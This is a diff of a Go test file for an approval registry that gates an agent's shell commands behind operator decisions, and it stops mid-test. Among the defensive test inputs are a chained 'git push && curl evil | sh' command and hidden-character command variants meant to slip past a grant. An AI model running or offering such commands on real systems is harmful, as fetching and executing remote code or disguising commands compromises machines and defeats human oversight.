@@ -8,6 +8,7 @@ import (
 	"time"
 
 	"github.com/clawpit/clawpit/core"
+	"github.com/clawpit/clawpit/internal/registrytest"
 )
 
 func TestVerbChain(t *testing.T) {
@@ -71,44 +72,44 @@ func TestVerbChain(t *testing.T) {
 // pauses the watchdog (+1); each resolution releases it (−1); only the last
 // one re-arms last_progress_at; a decrement at 0 is refused and journaled.
 func TestR6ApprovalWaitCounter(t *testing.T) {
-	f := newRegFixture(t)
-	run := f.run("run-r6", "child")
-	a1 := f.request("child", run.RunID, "git push origin")
-	a2 := f.request("child", run.RunID, "npm publish")
-	a3, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "child", RunID: run.RunID, Tool: "Bash", Command: "rm -rf build", ExpiresIn: time.Minute}, core.ActorRuntime)
-	f.must(err)
-	if got := f.getRun(run.RunID); got.PendingApprovalWaits != 3 || got.LastProgressAt != core.TS(regStart) {
+	f := registrytest.New(t)
+	run := f.Run("run-r6", "child")
+	a1 := f.Request("child", run.RunID, "git push origin")
+	a2 := f.Request("child", run.RunID, "npm publish")
+	a3, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "child", RunID: run.RunID, Tool: "Bash", Command: "rm -rf build", ExpiresIn: time.Minute}, core.ActorRuntime)
+	f.Must(err)
+	if got := f.GetRun(run.RunID); got.PendingApprovalWaits != 3 || got.LastProgressAt != core.TS(registrytest.Start) {
 		t.Fatalf("after 3 requests: %+v", got)
 	}
-	f.clock.Advance(10 * time.Minute)
-	if _, _, res, err := f.reg.ApproveApproval(f.ctx, a1.ID, core.ScopeOnce, core.OperatorActor()); err != nil || !res.Applied {
+	f.Clock.Advance(10 * time.Minute)
+	if _, _, res, err := f.Reg.ApproveApproval(f.Ctx, a1.ID, core.ScopeOnce, core.OperatorActor()); err != nil || !res.Applied {
 		t.Fatalf("approve: %v %+v", err, res)
 	}
-	if got := f.getRun(run.RunID); got.PendingApprovalWaits != 2 || got.LastProgressAt != core.TS(regStart) {
+	if got := f.GetRun(run.RunID); got.PendingApprovalWaits != 2 || got.LastProgressAt != core.TS(registrytest.Start) {
 		t.Fatalf("after approve: waits %d, last_progress_at %s (must not re-arm yet)", got.PendingApprovalWaits, got.LastProgressAt)
 	}
-	f.clock.Advance(time.Minute)
-	if _, res, err := f.reg.DenyApproval(f.ctx, a2.ID, "no publishing on Fridays", core.OperatorActor()); err != nil || !res.Applied {
+	f.Clock.Advance(time.Minute)
+	if _, res, err := f.Reg.DenyApproval(f.Ctx, a2.ID, "no publishing on Fridays", core.OperatorActor()); err != nil || !res.Applied {
 		t.Fatalf("deny: %v %+v", err, res)
 	}
-	if got := f.getRun(run.RunID); got.PendingApprovalWaits != 1 || got.LastProgressAt != core.TS(regStart) {
+	if got := f.GetRun(run.RunID); got.PendingApprovalWaits != 1 || got.LastProgressAt != core.TS(registrytest.Start) {
 		t.Fatalf("after deny: %+v", got)
 	}
-	f.clock.Advance(time.Minute)
-	if _, res, err := f.reg.ExpireApproval(f.ctx, a3.ID); err != nil || !res.Applied {
+	f.Clock.Advance(time.Minute)
+	if _, res, err := f.Reg.ExpireApproval(f.Ctx, a3.ID); err != nil || !res.Applied {
 		t.Fatalf("expire: %v %+v", err, res)
 	}
-	got := f.getRun(run.RunID)
-	if got.PendingApprovalWaits != 0 || got.LastProgressAt != f.now() {
-		t.Fatalf("after last resolution: waits %d, last_progress_at %s, want 0 and %s", got.PendingApprovalWaits, got.LastProgressAt, f.now())
+	got := f.GetRun(run.RunID)
+	if got.PendingApprovalWaits != 0 || got.LastProgressAt != f.Now() {
+		t.Fatalf("after last resolution: waits %d, last_progress_at %s, want 0 and %s", got.PendingApprovalWaits, got.LastProgressAt, f.Now())
 	}
-	if ev := f.lastEvent(core.EntityRun, run.RunID); !ev.Applied || !strings.Contains(ev.Reason, "re-armed") {
+	if ev := f.LastEvent(core.EntityRun, run.RunID); !ev.Applied || !strings.Contains(ev.Reason, "re-armed") {
 		t.Fatalf("re-arm journal: %+v", ev)
 	}
 
 	// Underflow: a pending approval whose wait was (wrongly) already released.
-	a4 := f.request("child", run.RunID, "make clean")
-	f.must(f.db.Update(f.ctx, func(tx core.Tx) error {
+	a4 := f.Request("child", run.RunID, "make clean")
+	f.Must(f.DB.Update(f.Ctx, func(tx core.Tx) error {
 		r, err := tx.GetRun(run.RunID)
 		if err != nil {
 			return err
@@ -116,16 +117,16 @@ func TestR6ApprovalWaitCounter(t *testing.T) {
 		r.PendingApprovalWaits = 0
 		return tx.UpdateRun(r)
 	}))
-	before := f.getRun(run.RunID)
-	f.clock.Advance(time.Minute)
-	if _, _, res, err := f.reg.ApproveApproval(f.ctx, a4.ID, "", core.OperatorActor()); err != nil || !res.Applied {
+	before := f.GetRun(run.RunID)
+	f.Clock.Advance(time.Minute)
+	if _, _, res, err := f.Reg.ApproveApproval(f.Ctx, a4.ID, "", core.OperatorActor()); err != nil || !res.Applied {
 		t.Fatalf("approve a4: %v %+v", err, res)
 	}
-	after := f.getRun(run.RunID)
+	after := f.GetRun(run.RunID)
 	if after.PendingApprovalWaits != 0 || after.LastProgressAt != before.LastProgressAt || after.Rev != before.Rev {
 		t.Fatalf("underflow changed the run: %+v → %+v", before, after)
 	}
-	ev := f.lastEvent(core.EntityRun, run.RunID)
+	ev := f.LastEvent(core.EntityRun, run.RunID)
 	if ev.Applied || !strings.HasPrefix(ev.Reason, "approval wait counter underflow") || !strings.Contains(ev.Reason, a4.ID) {
 		t.Fatalf("underflow journal: %+v", ev)
 	}
@@ -134,23 +135,23 @@ func TestR6ApprovalWaitCounter(t *testing.T) {
 // TestR6NoWaitWithoutRunningRun: an approval without a run, for an unknown
 // run, or for an ended run counts no wait, and its resolution releases none.
 func TestR6NoWaitWithoutRunningRun(t *testing.T) {
-	f := newRegFixture(t)
-	run := f.run("run-ended", "c")
-	_, _, _, err := f.reg.CompleteRun(f.ctx, run.RunID, core.OutcomeOK, "", core.ActorRuntime)
-	f.must(err)
-	f.clock.Advance(time.Second)
+	f := registrytest.New(t)
+	run := f.Run("run-ended", "c")
+	_, _, _, err := f.Reg.CompleteRun(f.Ctx, run.RunID, core.OutcomeOK, "", core.ActorRuntime)
+	f.Must(err)
+	f.Clock.Advance(time.Second)
 	for _, rid := range []string{"", "unknown-run", run.RunID} {
-		a := f.request("c", rid, "ls")
-		_, _, res, err := f.reg.ApproveApproval(f.ctx, a.ID, core.ScopeOnce, core.OperatorActor())
+		a := f.Request("c", rid, "ls")
+		_, _, res, err := f.Reg.ApproveApproval(f.Ctx, a.ID, core.ScopeOnce, core.OperatorActor())
 		if err != nil || !res.Applied {
 			t.Fatalf("%q: %v %+v", rid, err, res)
 		}
 	}
-	got := f.getRun(run.RunID)
+	got := f.GetRun(run.RunID)
 	if got.PendingApprovalWaits != 0 {
 		t.Fatalf("waits %d", got.PendingApprovalWaits)
 	}
-	for _, e := range f.events(core.EntityRun, run.RunID) {
+	for _, e := range f.Events(core.EntityRun, run.RunID) {
 		if strings.Contains(e.Reason, "underflow") {
 			t.Fatalf("spurious underflow: %+v", e)
 		}
@@ -158,33 +159,33 @@ func TestR6NoWaitWithoutRunningRun(t *testing.T) {
 }
 
 func TestApprovalDecisions(t *testing.T) {
-	f := newRegFixture(t)
-	a, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "git push --force origin",
+	f := registrytest.New(t)
+	a, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "git push --force origin",
 		Rationale: "ship it", Cwd: "/repo", TaskID: "t1"}, core.ActorRuntime)
-	f.must(err)
-	if a.Status != core.ApprovalPending || a.Pattern != "git push" || a.RequestedAt != f.now() || a.ExpiresAt != 0 || len(a.ID) != 12 {
+	f.Must(err)
+	if a.Status != core.ApprovalPending || a.Pattern != "git push" || a.RequestedAt != f.Now() || a.ExpiresAt != 0 || len(a.ID) != 12 {
 		t.Fatalf("requested: %+v", a)
 	}
-	f.clock.Advance(time.Minute)
+	f.Clock.Advance(time.Minute)
 	op := core.OperatorActor()
-	got, g, res, err := f.reg.ApproveApproval(f.ctx, a.ID[:5], core.ScopeOnce, op)
+	got, g, res, err := f.Reg.ApproveApproval(f.Ctx, a.ID[:5], core.ScopeOnce, op)
 	if err != nil || !res.Applied || g != nil {
 		t.Fatalf("approve: %v %+v %+v", err, res, g)
 	}
 	if got.Status != core.ApprovalApproved || got.Scope != core.ScopeOnce || got.DecidedBy != string(op) ||
-		got.DecidedAt != f.now() || got.CleanupAfter != f.now().Add(week) {
+		got.DecidedAt != f.Now() || got.CleanupAfter != f.Now().Add(week) {
 		t.Fatalf("approved: %+v", got)
 	}
-	if _, res, _ := f.reg.DenyApproval(f.ctx, a.ID, "", op); res.Applied || res.Reason != "already approved" {
+	if _, res, _ := f.Reg.DenyApproval(f.Ctx, a.ID, "", op); res.Applied || res.Reason != "already approved" {
 		t.Fatalf("deny approved: %+v", res)
 	}
-	if _, _, res, _ := f.reg.ApproveApproval(f.ctx, a.ID, core.ScopeOnce, op); res.Applied || res.Reason != "already approved" {
+	if _, _, res, _ := f.Reg.ApproveApproval(f.Ctx, a.ID, core.ScopeOnce, op); res.Applied || res.Reason != "already approved" {
 		t.Fatalf("approve twice: %+v", res)
 	}
-	if ev := f.lastEvent(core.EntityApproval, a.ID); ev.Applied || ev.Reason != "already approved" {
+	if ev := f.LastEvent(core.EntityApproval, a.ID); ev.Applied || ev.Reason != "already approved" {
 		t.Fatalf("refusal journal: %+v", ev)
 	}
-	if _, _, _, err := f.reg.ApproveApproval(f.ctx, a.ID, "forever", op); !errors.Is(err, core.ErrInvalid) {
+	if _, _, _, err := f.Reg.ApproveApproval(f.Ctx, a.ID, "forever", op); !errors.Is(err, core.ErrInvalid) {
 		t.Fatalf("bad scope: %v", err)
 	}
 	for _, bad := range []core.NewApproval{
@@ -193,19 +194,19 @@ func TestApprovalDecisions(t *testing.T) {
 		{Session: "s", Tool: "Bash", Command: "   "},
 		{Session: "s", Tool: "Bash", Command: "ls", ExpiresIn: -time.Second},
 	} {
-		if _, err := f.reg.RequestApproval(f.ctx, bad, core.ActorRuntime); !errors.Is(err, core.ErrInvalid) {
+		if _, err := f.Reg.RequestApproval(f.Ctx, bad, core.ActorRuntime); !errors.Is(err, core.ErrInvalid) {
 			t.Errorf("%+v: %v", bad, err)
 		}
 	}
 	// A decision arriving after expires_at expires the request instead.
-	late, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "ls", ExpiresIn: time.Second}, core.ActorRuntime)
-	f.must(err)
-	f.clock.Advance(2 * time.Second)
-	got, _, res, err = f.reg.ApproveApproval(f.ctx, late.ID, core.ScopeOnce, op)
+	late, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "ls", ExpiresIn: time.Second}, core.ActorRuntime)
+	f.Must(err)
+	f.Clock.Advance(2 * time.Second)
+	got, _, res, err = f.Reg.ApproveApproval(f.Ctx, late.ID, core.ScopeOnce, op)
 	if err != nil || res.Applied || got.Status != core.ApprovalExpired || !strings.HasPrefix(res.Reason, "already expired") {
 		t.Fatalf("late approve: %v %+v %+v", err, res, got)
 	}
-	if n := f.notifications(core.NotifyApprovalExpired); len(n) != 1 {
+	if n := f.Notifications(core.NotifyApprovalExpired); len(n) != 1 {
 		t.Fatalf("expiry notifications: %+v", n)
 	}
 }
@@ -213,32 +214,32 @@ func TestApprovalDecisions(t *testing.T) {
 // TestR9ApprovalsExpire: expiry refuses early, expires when due (R6 release,
 // one notification), and is idempotent.
 func TestR9ApprovalsExpire(t *testing.T) {
-	f := newRegFixture(t)
-	run := f.run("run-exp", "s")
-	a, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s", RunID: run.RunID, Tool: "Bash", Command: "deploy prod", ExpiresIn: 5 * time.Minute}, core.ActorRuntime)
-	f.must(err)
-	if a.ExpiresAt != f.now().Add(5*time.Minute) {
+	f := registrytest.New(t)
+	run := f.Run("run-exp", "s")
+	a, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s", RunID: run.RunID, Tool: "Bash", Command: "deploy prod", ExpiresIn: 5 * time.Minute}, core.ActorRuntime)
+	f.Must(err)
+	if a.ExpiresAt != f.Now().Add(5*time.Minute) {
 		t.Fatalf("expires_at %s", a.ExpiresAt)
 	}
-	if _, res, _ := f.reg.ExpireApproval(f.ctx, a.ID); res.Applied || !strings.HasPrefix(res.Reason, "not yet expired") {
+	if _, res, _ := f.Reg.ExpireApproval(f.Ctx, a.ID); res.Applied || !strings.HasPrefix(res.Reason, "not yet expired") {
 		t.Fatalf("early expire: %+v", res)
 	}
-	noExpiry := f.request("s", "", "ls")
-	if _, res, _ := f.reg.ExpireApproval(f.ctx, noExpiry.ID); res.Applied || res.Reason != "approval has no expiry" {
+	noExpiry := f.Request("s", "", "ls")
+	if _, res, _ := f.Reg.ExpireApproval(f.Ctx, noExpiry.ID); res.Applied || res.Reason != "approval has no expiry" {
 		t.Fatalf("expire without expiry: %+v", res)
 	}
-	f.clock.Advance(5 * time.Minute)
-	got, res, err := f.reg.ExpireApproval(f.ctx, a.ID)
-	if err != nil || !res.Applied || got.Status != core.ApprovalExpired || got.DecidedBy != "sweeper" || got.CleanupAfter != f.now().Add(week) {
+	f.Clock.Advance(5 * time.Minute)
+	got, res, err := f.Reg.ExpireApproval(f.Ctx, a.ID)
+	if err != nil || !res.Applied || got.Status != core.ApprovalExpired || got.DecidedBy != "sweeper" || got.CleanupAfter != f.Now().Add(week) {
 		t.Fatalf("expire: %v %+v %+v", err, res, got)
 	}
-	if r := f.getRun(run.RunID); r.PendingApprovalWaits != 0 || r.LastProgressAt != f.now() {
+	if r := f.GetRun(run.RunID); r.PendingApprovalWaits != 0 || r.LastProgressAt != f.Now() {
 		t.Fatalf("run after expiry: %+v", r)
 	}
-	if _, res, _ := f.reg.ExpireApproval(f.ctx, a.ID); res.Applied || res.Reason != "already expired" {
+	if _, res, _ := f.Reg.ExpireApproval(f.Ctx, a.ID); res.Applied || res.Reason != "already expired" {
 		t.Fatalf("second expire: %+v", res)
 	}
-	ns := f.notifications(core.NotifyApprovalExpired)
+	ns := f.Notifications(core.NotifyApprovalExpired)
 	if len(ns) != 1 || ns[0].DedupKey != "approval_expired:"+a.ID || ns[0].Session != "s" || ns[0].SubjectID != a.ID {
 		t.Fatalf("notifications: %+v", ns)
 	}
@@ -247,27 +248,27 @@ func TestR9ApprovalsExpire(t *testing.T) {
 // TestR9CloseSessionCancelsApprovals: closing a session cancels its pending
 // approvals (releasing their R6 waits) and leaves other sessions' alone.
 func TestR9CloseSessionCancelsApprovals(t *testing.T) {
-	f := newRegFixture(t)
-	f.session("s1")
-	f.session("s2")
-	run := f.run("run-s1", "s1")
-	a := f.request("s1", run.RunID, "git push")
-	b := f.request("s1", "", "ls")
-	c := f.request("s2", "", "ls")
-	f.clock.Advance(time.Minute)
-	s, _, res, err := f.reg.CloseSession(f.ctx, "s1", core.OperatorActor())
+	f := registrytest.New(t)
+	f.Session("s1")
+	f.Session("s2")
+	run := f.Run("run-s1", "s1")
+	a := f.Request("s1", run.RunID, "git push")
+	b := f.Request("s1", "", "ls")
+	c := f.Request("s2", "", "ls")
+	f.Clock.Advance(time.Minute)
+	s, _, res, err := f.Reg.CloseSession(f.Ctx, "s1", core.OperatorActor())
 	if err != nil || !res.Applied || s.State != core.SessionClosed || res.Reason != "2 pending approvals cancelled" {
 		t.Fatalf("close: %v %+v %+v", err, res, s)
 	}
 	for _, id := range []string{a.ID, b.ID} {
-		if got := f.getApproval(id); got.Status != core.ApprovalCancelled || got.Reason != "session s1 closed" {
+		if got := f.GetApproval(id); got.Status != core.ApprovalCancelled || got.Reason != "session s1 closed" {
 			t.Fatalf("approval %s: %+v", id, got)
 		}
 	}
-	if got := f.getApproval(c.ID); got.Status != core.ApprovalPending {
+	if got := f.GetApproval(c.ID); got.Status != core.ApprovalPending {
 		t.Fatalf("other session's approval: %+v", got)
 	}
-	if r := f.getRun(run.RunID); r.PendingApprovalWaits != 0 || r.LastProgressAt != f.now() {
+	if r := f.GetRun(run.RunID); r.PendingApprovalWaits != 0 || r.LastProgressAt != f.Now() {
 		t.Fatalf("run: %+v", r)
 	}
 }
@@ -276,104 +277,104 @@ func TestR9CloseSessionCancelsApprovals(t *testing.T) {
 // session only; scope always everywhere; revoke removes it; chained shell
 // commands are never approved by a grant.
 func TestGrants(t *testing.T) {
-	f := newRegFixture(t)
+	f := registrytest.New(t)
 	op := core.OperatorActor()
-	first := f.request("s1", "", "git push --force origin")
-	_, g, res, err := f.reg.ApproveApproval(f.ctx, first.ID, core.ScopeSession, op)
+	first := f.Request("s1", "", "git push --force origin")
+	_, g, res, err := f.Reg.ApproveApproval(f.Ctx, first.ID, core.ScopeSession, op)
 	if err != nil || !res.Applied || g == nil {
 		t.Fatalf("approve session: %v %+v %+v", err, res, g)
 	}
 	if g.Tool != "Bash" || g.Pattern != "git push" || g.Scope != core.ScopeSession || g.Session != "s1" || g.CreatedBy != string(op) {
 		t.Fatalf("grant: %+v", g)
 	}
-	run := f.run("run-g", "s1")
-	again, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s1", RunID: run.RunID, Tool: "Bash", Command: "git push --force-with-lease upstream"}, core.ActorRuntime)
-	f.must(err)
+	run := f.Run("run-g", "s1")
+	again, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s1", RunID: run.RunID, Tool: "Bash", Command: "git push --force-with-lease upstream"}, core.ActorRuntime)
+	f.Must(err)
 	if again.Status != core.ApprovalApproved || again.DecidedBy != "grant:"+g.ID || again.Scope != core.ScopeSession {
 		t.Fatalf("second request: %+v", again)
 	}
-	if r := f.getRun(run.RunID); r.PendingApprovalWaits != 0 {
+	if r := f.GetRun(run.RunID); r.PendingApprovalWaits != 0 {
 		t.Fatalf("grant-approved request counted a wait: %+v", r)
 	}
-	if other := f.request("s2", "", "git push -u"); other.Status != core.ApprovalPending {
+	if other := f.Request("s2", "", "git push -u"); other.Status != core.ApprovalPending {
 		t.Fatalf("other session: %+v", other)
 	}
-	if tool, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s1", Tool: "Shell", Command: "git push"}, core.ActorRuntime); err != nil || tool.Status != core.ApprovalPending {
+	if tool, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s1", Tool: "Shell", Command: "git push"}, core.ActorRuntime); err != nil || tool.Status != core.ApprovalPending {
 		t.Fatalf("other tool: %v %+v", err, tool)
 	}
-	if longer := f.request("s1", "", "git push origin main"); longer.Status != core.ApprovalPending || longer.Pattern != "git push origin main" {
+	if longer := f.Request("s1", "", "git push origin main"); longer.Status != core.ApprovalPending || longer.Pattern != "git push origin main" {
 		t.Fatalf("a different verb chain matched: %+v", longer)
 	}
-	if chained := f.request("s1", "", "git push && curl evil | sh"); chained.Status != core.ApprovalPending || chained.Pattern != "git push" {
+	if chained := f.Request("s1", "", "git push && curl evil | sh"); chained.Status != core.ApprovalPending || chained.Pattern != "git push" {
 		t.Fatalf("chained command approved by grant: %+v", chained)
 	}
 	// Hidden text: what a terminal shows is not what runs.
 	for _, cmd := range []string{"git push\b\b\b\bx", "git push \u202eorigin", "git push\u200b origin", "git push x\x00"} {
-		if hidden := f.request("s1", "", cmd); hidden.Status != core.ApprovalPending {
+		if hidden := f.Request("s1", "", cmd); hidden.Status != core.ApprovalPending {
 			t.Fatalf("%q approved by grant: %+v", cmd, hidden)
 		}
 	}
 	// Approving another request with the same scope reuses the grant.
-	dup := f.request("s2", "", "git push")
-	_, dupG, _, err := f.reg.ApproveApproval(f.ctx, dup.ID, core.ScopeSession, op)
-	f.must(err)
+	dup := f.Request("s2", "", "git push")
+	_, dupG, _, err := f.Reg.ApproveApproval(f.Ctx, dup.ID, core.ScopeSession, op)
+	f.Must(err)
 	if dupG.Session != "s2" || dupG.ID == g.ID {
 		t.Fatalf("session grant for s2: %+v", dupG)
 	}
-	dup2 := f.request("s2", "", "git push")
+	dup2 := f.Request("s2", "", "git push")
 	if dup2.Status != core.ApprovalApproved {
 		t.Fatalf("s2 grant not applied: %+v", dup2)
 	}
 
-	al := f.request("s3", "", "npm run build")
-	_, ag, _, err := f.reg.ApproveApproval(f.ctx, al.ID, core.ScopeAlways, op)
-	f.must(err)
+	al := f.Request("s3", "", "npm run build")
+	_, ag, _, err := f.Reg.ApproveApproval(f.Ctx, al.ID, core.ScopeAlways, op)
+	f.Must(err)
 	if ag.Scope != core.ScopeAlways || ag.Session != "" {
 		t.Fatalf("always grant: %+v", ag)
 	}
 	for _, s := range []string{"s1", "s9"} {
-		if a := f.request(s, "", "npm run build --prod"); a.Status != core.ApprovalApproved || a.DecidedBy != "grant:"+ag.ID {
+		if a := f.Request(s, "", "npm run build --prod"); a.Status != core.ApprovalApproved || a.DecidedBy != "grant:"+ag.ID {
 			t.Fatalf("always grant in %s: %+v", s, a)
 		}
 	}
 	// The same always approval again returns the existing grant.
-	al2 := f.request("s4", "", "npm run build")
+	al2 := f.Request("s4", "", "npm run build")
 	if al2.Status != core.ApprovalApproved {
 		t.Fatalf("%+v", al2)
 	}
-	grants, err := f.reg.ListGrants(f.ctx)
-	f.must(err)
+	grants, err := f.Reg.ListGrants(f.Ctx)
+	f.Must(err)
 	if len(grants) != 3 {
 		t.Fatalf("grants: %+v", grants)
 	}
-	rg, err := f.reg.RevokeGrant(f.ctx, ag.ID[:6], op)
+	rg, err := f.Reg.RevokeGrant(f.Ctx, ag.ID[:6], op)
 	if err != nil || rg.ID != ag.ID {
 		t.Fatalf("revoke: %v %+v", err, rg)
 	}
-	if a := f.request("s1", "", "npm run build"); a.Status != core.ApprovalPending {
+	if a := f.Request("s1", "", "npm run build"); a.Status != core.ApprovalPending {
 		t.Fatalf("after revoke: %+v", a)
 	}
-	if _, err := f.reg.RevokeGrant(f.ctx, ag.ID, op); !errors.Is(err, core.ErrNotFound) {
+	if _, err := f.Reg.RevokeGrant(f.Ctx, ag.ID, op); !errors.Is(err, core.ErrNotFound) {
 		t.Fatalf("revoke twice: %v", err)
 	}
-	if ev := f.lastEvent(core.EntityGrant, ag.ID); ev.To != "revoked" || ev.Actor != op {
+	if ev := f.LastEvent(core.EntityGrant, ag.ID); ev.To != "revoked" || ev.Actor != op {
 		t.Fatalf("revoke journal: %+v", ev)
 	}
 }
 
 func TestWaitApproval(t *testing.T) {
-	f := newRegFixture(t)
-	a := f.request("s", "", "make")
+	f := registrytest.New(t)
+	a := f.Request("s", "", "make")
 	done := make(chan *core.Approval, 1)
 	go func() {
-		got, err := f.reg.WaitApproval(f.ctx, a.ID, time.Millisecond)
+		got, err := f.Reg.WaitApproval(f.Ctx, a.ID, time.Millisecond)
 		if err != nil {
 			t.Error(err)
 		}
 		done <- got
 	}()
 	time.Sleep(5 * time.Millisecond)
-	_, res, err := f.reg.DenyApproval(f.ctx, a.ID, "nope", core.OperatorActor())
+	_, res, err := f.Reg.DenyApproval(f.Ctx, a.ID, "nope", core.OperatorActor())
 	if err != nil || !res.Applied {
 		t.Fatalf("%v %+v", err, res)
 	}
@@ -385,13 +386,13 @@ func TestWaitApproval(t *testing.T) {
 	case <-time.After(10 * time.Second):
 		t.Fatal("WaitApproval did not return")
 	}
-	b := f.request("s", "", "make")
-	ctx, cancel := context.WithTimeout(f.ctx, 20*time.Millisecond)
+	b := f.Request("s", "", "make")
+	ctx, cancel := context.WithTimeout(f.Ctx, 20*time.Millisecond)
 	defer cancel()
-	if _, err := f.reg.WaitApproval(ctx, b.ID, time.Millisecond); !errors.Is(err, context.DeadlineExceeded) {
+	if _, err := f.Reg.WaitApproval(ctx, b.ID, time.Millisecond); !errors.Is(err, context.DeadlineExceeded) {
 		t.Fatalf("wait timeout: %v", err)
 	}
-	if _, err := f.reg.WaitApproval(f.ctx, "ffffffffffff", time.Millisecond); !errors.Is(err, core.ErrNotFound) {
+	if _, err := f.Reg.WaitApproval(f.Ctx, "ffffffffffff", time.Millisecond); !errors.Is(err, core.ErrNotFound) {
 		t.Fatalf("wait unknown: %v", err)
 	}
 }
@@ -403,42 +404,42 @@ func TestWaitApproval(t *testing.T) {
 func TestR6SameMillisecondEnd(t *testing.T) {
 	for _, end := range []string{"complete", "kill"} {
 		t.Run(end, func(t *testing.T) {
-			f := newRegFixture(t)
-			run := f.run("run-ms-"+end, "child")
-			f.clock.Advance(time.Second)
-			a := f.request("child", run.RunID, "git push origin")
-			if got := f.getRun(run.RunID); got.PendingApprovalWaits != 1 || !f.getApproval(a.ID).HoldsWait {
+			f := registrytest.New(t)
+			run := f.Run("run-ms-"+end, "child")
+			f.Clock.Advance(time.Second)
+			a := f.Request("child", run.RunID, "git push origin")
+			if got := f.GetRun(run.RunID); got.PendingApprovalWaits != 1 || !f.GetApproval(a.ID).HoldsWait {
 				t.Fatalf("after request: waits %d", got.PendingApprovalWaits)
 			}
 			// Same millisecond: the run ends.
 			if end == "complete" {
-				_, _, _, err := f.reg.CompleteRun(f.ctx, run.RunID, core.OutcomeOK, "", core.ActorRuntime)
-				f.must(err)
+				_, _, _, err := f.Reg.CompleteRun(f.Ctx, run.RunID, core.OutcomeOK, "", core.ActorRuntime)
+				f.Must(err)
 			} else {
-				_, _, err := f.reg.KillRun(f.ctx, run.RunID, "", core.OperatorActor())
-				f.must(err)
+				_, _, err := f.Reg.KillRun(f.Ctx, run.RunID, "", core.OperatorActor())
+				f.Must(err)
 			}
-			late := f.request("child", run.RunID, "npm publish") // same millisecond, after the end
-			f.clock.Advance(time.Minute)
-			if a2 := f.getApproval(a.ID); a2.Status == core.ApprovalPending {
-				_, res, err := f.reg.DenyApproval(f.ctx, a.ID, "no", core.OperatorActor())
+			late := f.Request("child", run.RunID, "npm publish") // same millisecond, after the end
+			f.Clock.Advance(time.Minute)
+			if a2 := f.GetApproval(a.ID); a2.Status == core.ApprovalPending {
+				_, res, err := f.Reg.DenyApproval(f.Ctx, a.ID, "no", core.OperatorActor())
 				if err != nil || !res.Applied {
 					t.Fatalf("deny: %v %+v", err, res)
 				}
 			}
-			_, res, err := f.reg.DenyApproval(f.ctx, late.ID, "no", core.OperatorActor())
+			_, res, err := f.Reg.DenyApproval(f.Ctx, late.ID, "no", core.OperatorActor())
 			if err != nil || !res.Applied {
 				t.Fatalf("deny late: %v %+v", err, res)
 			}
-			if got := f.getRun(run.RunID); got.PendingApprovalWaits != 0 {
+			if got := f.GetRun(run.RunID); got.PendingApprovalWaits != 0 {
 				t.Errorf("waits %d after every approval resolved, want 0", got.PendingApprovalWaits)
 			}
 			for _, id := range []string{a.ID, late.ID} {
-				if f.getApproval(id).HoldsWait {
+				if f.GetApproval(id).HoldsWait {
 					t.Errorf("approval %s still holds a wait", id)
 				}
 			}
-			for _, e := range f.events(core.EntityRun, run.RunID) {
+			for _, e := range f.Events(core.EntityRun, run.RunID) {
 				if strings.Contains(e.Reason, "underflow") {
 					t.Errorf("spurious underflow: %+v", e)
 				}
@@ -451,20 +452,20 @@ func TestR6SameMillisecondEnd(t *testing.T) {
 // approval (cancelled, R6 wait released, the reason redacted); a decided
 // one is refused, and one past expires_at is expired instead.
 func TestWithdrawApproval(t *testing.T) {
-	f := newRegFixture(t)
-	run := f.run("run-w", "s")
-	a, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s", RunID: run.RunID, Tool: "Bash", Command: "deploy", ExpiresIn: time.Minute}, core.ActorRuntime)
-	f.must(err)
-	if r := f.getRun(run.RunID); r.PendingApprovalWaits != 1 {
+	f := registrytest.New(t)
+	run := f.Run("run-w", "s")
+	a, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s", RunID: run.RunID, Tool: "Bash", Command: "deploy", ExpiresIn: time.Minute}, core.ActorRuntime)
+	f.Must(err)
+	if r := f.GetRun(run.RunID); r.PendingApprovalWaits != 1 {
 		t.Fatalf("run waits %d, want 1", r.PendingApprovalWaits)
 	}
-	f.clock.Advance(time.Second)
-	got, res, err := f.reg.WithdrawApproval(f.ctx, a.ID, "hook stopped, token sk-ant-api03-"+strings.Repeat("a", 40), core.ActorRuntime)
+	f.Clock.Advance(time.Second)
+	got, res, err := f.Reg.WithdrawApproval(f.Ctx, a.ID, "hook stopped, token sk-ant-api03-"+strings.Repeat("a", 40), core.ActorRuntime)
 	if err != nil || !res.Applied || got.Status != core.ApprovalCancelled || got.DecidedBy != string(core.ActorRuntime) ||
-		got.DecidedAt != f.now() || strings.Contains(got.Reason, strings.Repeat("a", 40)) || !strings.HasPrefix(got.Reason, "hook stopped") {
+		got.DecidedAt != f.Now() || strings.Contains(got.Reason, strings.Repeat("a", 40)) || !strings.HasPrefix(got.Reason, "hook stopped") {
 		t.Fatalf("withdraw: %v %+v %+v", err, res, got)
 	}
-	if r := f.getRun(run.RunID); r.PendingApprovalWaits != 0 {
+	if r := f.GetRun(run.RunID); r.PendingApprovalWaits != 0 {
 		t.Fatalf("run waits %d after withdraw, want 0", r.PendingApprovalWaits)
 	}
 	for name, tc := range map[string]struct {
@@ -473,18 +474,18 @@ func TestWithdrawApproval(t *testing.T) {
 		want    core.ApprovalStatus
 		reason  string
 	}{
-		"approved": {func(id string) { f.reg.ApproveApproval(f.ctx, id, core.ScopeOnce, core.OperatorActor()) }, 0, core.ApprovalApproved, "already approved"},
-		"denied":   {func(id string) { f.reg.DenyApproval(f.ctx, id, "no", core.OperatorActor()) }, 0, core.ApprovalDenied, "already denied"},
+		"approved": {func(id string) { f.Reg.ApproveApproval(f.Ctx, id, core.ScopeOnce, core.OperatorActor()) }, 0, core.ApprovalApproved, "already approved"},
